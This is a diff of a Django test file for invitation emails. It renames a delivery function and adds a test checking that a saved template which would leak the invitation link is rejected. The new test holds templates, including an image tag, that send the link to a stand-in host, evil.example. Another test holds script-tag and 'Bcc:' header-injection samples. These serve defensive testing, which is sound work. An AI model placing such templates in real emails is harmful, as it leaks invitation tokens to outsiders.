@@ -7,7 +7,7 @@ import pytest
 from django.core.mail import EmailMessage
 
 from orgs.mail.colours import ink_on, luminance_of
-from orgs.mail.invitations import deliver_invitation, render_invitation
+from orgs.mail.invitations import deliver_rendered, render_invitation
 from orgs.mail.placeholders import faults_in, fill, fill_html, fill_line
 from orgs.models import Invite, InviteTemplate, Membership
 from orgs.models.languages import LANGUAGES, is_language
@@ -163,6 +163,22 @@ class TestRenderInvitation:
         assert rendered.html.endswith(">Hallo</a>")
         assert "a&#61;1&amp;b&#61;2" in rendered.html
 
+    def test_falls_back_where_a_saved_part_would_give_the_link_away(self, invite: Invite) -> None:
+        write(
+            invite,
+            "de",
+            subject="Komm {{link}}",
+            parameters={"heading": "Hallo", "body": "https://evil.example/?{{link}}"},
+            html='<img src="https://evil.example/?{{link}}"><a href="{{link}}">Hallo</a>',
+            text="https://evil.example/?{{link}}",
+        )
+
+        rendered = render_invitation(invite, link=LINK)
+
+        assert rendered.subject == "Ada Nkosi invites you to Acme"
+        assert "evil.example" not in rendered.html + rendered.text
+        assert ">Hallo</h1>" in rendered.html
+
     def test_keeps_names_as_text(self, invite: Invite) -> None:
         invite.first_name = "<script>alert(1)</script>"
         invite.organization.name = "Acme <b>\nBcc: eve@evil.example"
@@ -189,11 +205,11 @@ class TestRenderInvitation:
         assert 'dir="rtl"' in render_invitation(invite, link=LINK).html
 
 
-class TestDeliverInvitation:
+class TestDeliverRendered:
     def test_goes_to_the_invited_as_text_and_html(
         self, invite: Invite, mailoutbox: list[EmailMessage]
     ) -> None:
-        deliver_invitation(invite, link=LINK)
+        deliver_rendered(render_invitation(invite, link=LINK), to=invite.email)
 
         (mail,) = mailoutbox
         assert mail.to == ["mia@acme.example"]
